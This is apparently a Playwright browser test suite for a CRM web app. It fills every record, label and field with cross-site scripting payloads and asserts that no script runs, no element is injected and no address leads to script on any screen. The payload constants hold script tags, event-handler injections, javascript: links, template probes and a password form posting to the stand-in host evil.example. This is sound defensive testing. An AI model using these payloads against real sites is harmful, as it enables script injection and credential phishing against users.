"""Texts that are script in every field, label and name, shown on every screen of the application in a real browser: none
runs, none becomes an element, no address leads to script, and the content policy has nothing to stop.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote
from uuid import UUID

import pytest
from playwright.sync_api import Browser, Page
from tests.browser.served import Site, empty_database, serving

from relata.app.assembly import MAIN, House
from relata.app.demo import MANAGER, let_in
from relata.engine.workspace.administration import Administration
from relata.interfaces.html.assets import Assets
from relata.testing.demo import PASSWORD

#: Breaks out of text, attributes, comments, scripts, styles and templates; each way sets the mark or leaves the element.
HOSTILE = (
    '--></title></script></textarea></style>"\'><x-planted></x-planted><img src=x onerror="window.planted=1">'
    "<script>window.planted=1</script><svg/onload=window.planted=1>{{7*7*7*7*7}}${7*7*7*7*7}"
)
SHORT = "\"'><x-planted><img src=x onerror=window.planted=1>"
RICH = (
    '<p onclick="window.planted=1" style="position:fixed">Hello<script>window.planted=1</script>'
    '<img src=x onerror="window.planted=1"><a href="javascript:window.planted=1">a</a><a href="data:text/html,x">b</a>'
    '<iframe srcdoc="<script>parent.planted=1</script>"></iframe><svg><script>window.planted=1</script></svg>'
    '<math><mi//xlink:href="data:x,<script>window.planted=1</script>"></math><x-planted></x-planted>'
    '<form action="//evil.example"><input name=password></form><base href="//evil.example/"></p>'
)


@dataclass
class Planted:
    """The ids of what was made, by object."""

    ids: dict[str, UUID] = field(default_factory=dict)


async def plant(house: House) -> Planted:
    """A company in which every text is hostile."""
    await house.migrate()
    await house.ensure_workspace(MAIN, SHORT)
    async with house.door.open(MAIN, None, via="setup") as work:
        await work.create("user", {"name": SHORT, "email": MANAGER, "roles": ["admin"], "title": SHORT})
    await let_in(house, MANAGER, PASSWORD)
    office = Administration(house.door, MAIN, None)
    await office.add_object({"name": "odd", "plural": "odds", "label": SHORT, "plural_label": SHORT, "help": HOSTILE})
    options = [{"value": "a", "label": SHORT}, {"value": "b", "label": HOSTILE[:60]}]
    for body in (
        {"type": "text", "name": "words", "label": SHORT, "help": HOSTILE},
        {"type": "choice", "name": "kind", "label": SHORT, "options": options},
        {"type": "tags", "name": "marks", "label": SHORT},
        {"type": "long_text", "name": "lines", "label": SHORT},
        {"type": "rich_text", "name": "story", "label": SHORT},
        {"type": "json", "name": "extra", "label": SHORT},
        {"type": "date", "name": "day", "label": SHORT},
        {"type": "link", "name": "account", "to": "account", "label": SHORT, "reverse_label": SHORT},
    ):
        await office.add_field("odd", body)
    made = Planted()
    async with house.door.open(MAIN, None, via="setup") as work:
        for name, values in texts().items():
            linked = {
                key: made.ids[value[2:]] if isinstance(value, str) and value.startswith("->") else value
                for key, value in values.items()
            }
            linked = {
                key: {"object": value[2:], "id": str(made.ids[value[2:]])}
                if isinstance(value, str) and value.startswith("=>")
                else value
                for key, value in linked.items()
            }
            made.ids[name] = (await work.create(name, linked)).id
        twin = await work.create("account", {"name": HOSTILE[:100]})
        made.ids["twin"] = twin.id
        for name in ("account", "odd", "lead"):  # entries of the history, each with a text before and after
            key = "words" if name == "odd" else "description"
            await work.change((name, made.ids[name]), {key: HOSTILE + "2"})
    return made


def texts() -> dict[str, dict[str, object]]:
    """Records in the order of their links, see `conftest.plan`."""
    person, at = {"first": SHORT, "last": SHORT}, "2026-11-21T10:00:00Z"
    place = {"street": SHORT, "city": SHORT, "postcode": SHORT[:20]}
    return {
        "team": {"name": SHORT},
        "account": {
            "name": HOSTILE[:100], "legal_name": SHORT, "description": HOSTILE, "tags": [SHORT[:40]], "billing_address": place,
        },
        "contact": {"name": person, "account": "->account", "job_title": SHORT, "description": HOSTILE},
        "affiliation": {"role": SHORT, "contact": "->contact", "account": "->account"},
        "household": {"name": SHORT},
        "static_list": {"name": SHORT, "holds": "contact", "description": HOSTILE},
        "segment": {"name": SHORT, "holds": "contact", "expression": f'name.first = "{SHORT[2:]}"'},
        "task": {"subject": HOSTILE[:100], "about": "=>account", "description": HOSTILE, "due_on": "2026-11-21"},
        "call": {"subject": SHORT, "at": at, "about": "=>account", "summary": HOSTILE},
        "meeting": {"subject": HOSTILE[:100], "starts_at": at, "about": "=>account"},
        "note": {"body": RICH, "about": "=>account"},
        "product": {"name": SHORT},
        "price_book": {"name": SHORT, "currency": "EUR"},
        "lead": {"name": person, "company": SHORT, "job_title": SHORT, "description": HOSTILE},
        "opportunity": {"name": HOSTILE[:100], "account": "->account", "description": HOSTILE, "next_step": SHORT},
        "comment": {"body": RICH, "about": "=>account"},
        "view": {"name": SHORT, "object": "account", "filter": f'name contains "{SHORT[2:]}"', "grouping": "tags"},
        "odd": {
            "name": SHORT, "words": HOSTILE, "kind": "a", "marks": [SHORT[:40]], "lines": HOSTILE, "story": RICH,
            "extra": {SHORT: HOSTILE}, "day": "2026-11-21", "account": "->account",
        },
    }  # fmt: skip


@pytest.fixture(scope="module")
def planted(postgres_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Site, Planted]]:
    """The company, served."""
    if not Assets().built:
        pytest.skip("The front end has not been built.")
    home: Path = tmp_path_factory.mktemp("planted")
    with serving(empty_database(postgres_url), home) as site:
        yield site, site.change(plant)


def screens(made: Planted) -> list[str]:
    """Every screen that shows texts of people."""
    plurals = {
        "account": "accounts", "contact": "contacts", "lead": "leads", "opportunity": "opportunities", "odd": "odds",
        "task": "tasks", "meeting": "meetings", "note": "notes", "call": "calls", "static_list": "lists",
        "household": "households", "product": "products",
    }  # fmt: skip
    found = [
        "/",
        "/notifications",
        "/bulk",
        f"/search?q={quote(SHORT)}",
        f"/palette?q={quote(SHORT)}",
        f"/{quote(SHORT, safe='')}",
    ]
    for name, plural in plurals.items():
        found += [f"/{plural}", f"/{plural}/{made.ids[name]}"]
    for name in ("account", "odd", "lead"):
        here = f"/{plurals[name]}/{made.ids[name]}"
        found += [
            f"{here}{tail}" for tail in ("/edit", "/peek", "/timeline", "/history", "/duplicates", "/card", "/share")
        ]
        found += [f"{here}?tab={tab}" for tab in ("related", "details", "history")]
        found += [f"/{plurals[name]}{tail}" for tail in ("/new", "/gallery", "/filter", "/columns", "/sorting", "/map")]
        found.append(
            f"/{plurals[name]}?where={quote('name = ' + chr(34) + SHORT)}&order={quote(SHORT)}&q={quote(SHORT)}"
        )
    found += [
        f"/accounts/{made.ids['account']}/merge?with={made.ids['twin']}", f"/accounts?view={made.ids['view']}",
        "/accounts?group=tags", "/odds?group=kind", "/odds/board?by=kind", "/odds/calendar?date=day", "/leads/board",
        "/opportunities/board", "/tasks/calendar", "/meetings/calendar", f"/choose/account?q={quote(SHORT)}", "/mentionable",
        f"/sign-in?next={quote(SHORT)}", "/accounts/export.csv",
    ]  # fmt: skip
    settings = ("", "/people", "/teams", "/objects", "/objects/odd", "/objects/odd/fields/words", "/objects/odd/layout",
                "/roles", "/roles/admin/fields/odd", "/audit", "/general", "/profile", "/sessions", "/boards", "/choices",
                "/choices/odd/kind", "/sharing-rules/new", "/explain", "/security", "/health", "/reads", "/all-keys")  # fmt: skip
    return [one for one in (*found, *(f"/settings{tail}" for tail in settings)) if "export" not in one]


FOUND = """() => ({
    ran: window.planted === 1,
    elements: [...document.querySelectorAll('x-planted, [onerror], [onload], [onclick], iframe, base, svg script')]
        .map(one => one.outerHTML.slice(0, 200)),
    scripts: [...document.querySelectorAll('script')].filter(one => !one.src && one.type !== 'application/json'
        && one.type !== 'importmap' && one.textContent.includes('planted')).length,
    addresses: [...document.querySelectorAll('[href], [src], [action], [formaction]')]
        .flatMap(one => ['href', 'src', 'action', 'formaction'].map(name => one.getAttribute(name) || ''))
        .filter(one => /^\\s*(javascript|vbscript|data:text)/i.test(one) || one.includes('evil.example')),
    evaluated: document.documentElement.innerText.includes('16807'),
})"""
NOTHING = {"ran": False, "elements": [], "scripts": 0, "addresses": [], "evaluated": False}


@pytest.fixture(scope="module")
def guest(planted: tuple[Site, Planted], chromium: Browser) -> Iterator[Page]:
    """A window of the administrator there."""
    context = chromium.new_context(base_url=planted[0].address, reduced_motion="reduce")
    page = context.new_page()
    page.goto("/sign-in")
    page.get_by_label("E-mail").fill(MANAGER)
    page.get_by_label("Password", exact=True).fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(re.compile(r"/(\?start)?$"))
    yield page
    context.close()


def test_no_text_of_a_person_ever_becomes_script(planted: tuple[Site, Planted], guest: Page) -> None:
    wrong: list[tuple[object, ...]] = []
    shown, statuses = 0, []
    messages: list[str] = []
    elsewhere: list[str] = []
    own = planted[0].address
    guest.on(
        "request", lambda sent: None if sent.url.startswith((own, "data:", "blob:")) else elsewhere.append(sent.url)
    )
    guest.on("console", lambda entry: messages.append(entry.text) if "Content Security" in entry.text else None)
    for path in screens(planted[1]):
        answer = guest.goto(path, wait_until="load")
        assert answer is not None
        statuses.append((path, answer.status))
        found = guest.evaluate(FOUND)
        shown += "x-planted" in guest.content()
        if found != NOTHING or messages:
            wrong.append((path, found, list(messages)))
            messages.clear()
        if answer.status >= 500:
            wrong.append((path, answer.status))
    assert not wrong, "\n".join(map(str, wrong))
    assert shown > 50, f"The texts stand on {shown} pages only: {statuses}"
    assert elsewhere == []
    missing = [path for path, status in statuses if status != 200]
    assert len(missing) <= 4, missing  # the address that is nonsense, and filters that are


def test_what_scripts_bring_later_is_text_too(planted: tuple[Site, Planted], guest: Page) -> None:
    """Menus, palette, pickers and lists of options that our own scripts fill."""
    _site, made = planted
    guest.goto(f"/odds/{made.ids['odd']}")
    guest.keyboard.press("Control+k")
    guest.keyboard.type("planted")
    guest.wait_for_timeout(600)
    assert guest.evaluate(FOUND) == NOTHING
    guest.keyboard.press("Escape")
    for path, place in (("/odds/new", "[name=account], [role=combobox]"), ("/accounts/filter", "input")):
        guest.goto(path)
        field_there = guest.locator(place).first
        if field_there.is_visible():
            field_there.click()
            guest.keyboard.type("pl")
            guest.wait_for_timeout(600)
        assert guest.evaluate(FOUND) == NOTHING
